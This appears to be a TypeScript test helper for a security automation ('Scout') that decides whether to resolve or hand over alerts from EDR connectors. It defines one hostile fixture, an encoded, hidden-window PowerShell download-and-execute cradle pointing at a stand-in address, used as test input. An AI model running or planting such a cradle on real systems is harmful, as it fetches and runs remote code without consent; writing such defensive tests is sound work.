import { randomBytes } from 'node:crypto';
import { afterEach, beforeAll, expect } from 'vitest';
import { updateAutomation } from '../../automations/patch.ts';
import { useEncryptionKey } from '../../connectors/box.ts';
import { putConnector } from '../../connectors/put.ts';
import type { Ctx } from '../../kernel/index.ts';
import { as, ctxOf, type Floor, testFloor } from '../../testing/fixtures.ts';
import { settled } from './scouts-case.ts';

/** A line that runs what it downloads, encoded as attackers do. */
export const CRADLE = `powershell.exe -nop -w hidden -enc ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", 'utf16le').toString('base64')}`;

export interface Settling {
  floor: Floor;
  admin(): Ctx;
  set(id: string, patch: object): Promise<unknown>;
  /** With a secret of ours, at an address that nobody calls. */
  connect(id: string, enabled: boolean, credentials?: Record<string, string>): Promise<unknown>;
  /** Why Scout hands a case over instead of resolving it. */
  refusalsOf(key: string, meanwhile?: () => Promise<unknown>): Promise<string[]>;
}

/** What a test file of Scout's settling stands on. After each test Scout may do again what most of them let it do, and no source is on. */
export function testSettling(): Settling {
  const floor = testFloor();
  const admin = () => ctxOf(floor.db, as(floor.people.admin));
  const set: Settling['set'] = (id, patch) => updateAutomation({ ctx: admin(), input: { id, patch } });
  const connect: Settling['connect'] = (id, enabled, credentials = {}) =>
    putConnector({ ctx: admin(), input: { id, enabled, credentials } });
  beforeAll(() => useEncryptionKey(randomBytes(32).toString('base64')));
  afterEach(async () => {
    await set('crowdstrike-intel', { parameters: { knownGood: [] } });
    await set('scout', { enabled: true, parameters: { acts: ['comment', 'task', 'resolve'], resolveUpTo: 'medium' } });
    for (const id of ['crowdstrike', 'sentinelone']) await connect(id, false);
  });
  return {
    ...{ floor, admin, set, connect },
    async refusalsOf(key, meanwhile) {
      const { outcome, refusals } = await settled(floor, key, meanwhile);
      expect(outcome).toBe('handed_over');
      return refusals;
    },
  };
}
